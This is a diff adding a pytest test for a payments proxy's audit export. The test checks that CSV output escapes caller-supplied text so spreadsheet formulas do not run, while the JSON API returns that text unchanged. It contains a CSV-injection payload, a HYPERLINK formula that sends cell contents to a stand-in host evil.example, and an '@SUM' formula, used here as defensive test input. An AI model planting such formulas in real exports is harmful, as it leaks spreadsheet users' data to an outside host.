@@ -278,6 +278,34 @@ def test_audit_filters_and_csv(tmp_path: Path, fake_stripe: FakeStripe) -> None:
     assert bad_since.status_code == 400 and bad_limit.status_code == 400
 
 
+def test_audit_csv_keeps_a_callers_text_from_running_as_a_formula(
+    tmp_path: Path, fake_stripe: FakeStripe
+) -> None:
+    """A vault key's holder chooses its idempotency key (a caller tag starts with a letter or a
+    digit); whoever opens the audit CSV in a spreadsheet must not run it (OWASP, CSV
+    injection)."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    with app_client(tmp_path, stripe_api_base=fake_stripe.url) as client:
+        key = issue(client, agent_run_label="argo/a")
+        for token, tag in ((formula, "pod-2"), ("@SUM(1)", "pod-1"), ("order-1", "pod-0")):
+            answer = client.post(
+                "/stripe/v1/payment_intents",
+                data={"amount": "100", "currency": "usd"},
+                headers={
+                    "Authorization": f"Bearer {key['vault_key']}.{tag}",
+                    "Idempotency-Key": token,
+                },
+            )
+            assert answer.status_code == 200, answer.text
+        as_csv = client.get("/vault/audit", params={"format": "csv"}).text
+        as_json = client.get("/vault/audit").json()["data"]
+    rows = list(csv.DictReader(io.StringIO(as_csv)))
+    cells = [(r["idempotency_key"], r["caller_tag"]) for r in rows]
+    assert cells == [("order-1", "pod-0"), ("'@SUM(1)", "pod-1"), ("'" + formula, "pod-2")]
+    assert [r["settled_usd"] for r in rows] == ["1.00"] * 3  # numbers stay numbers
+    assert as_json[2]["idempotency_key"] == formula  # the API gives the text as it came
+
+
 def test_pricing_table_is_reported(tmp_path: Path) -> None:
     with app_client(tmp_path) as client:
         table = client.get("/vault/pricing").json()
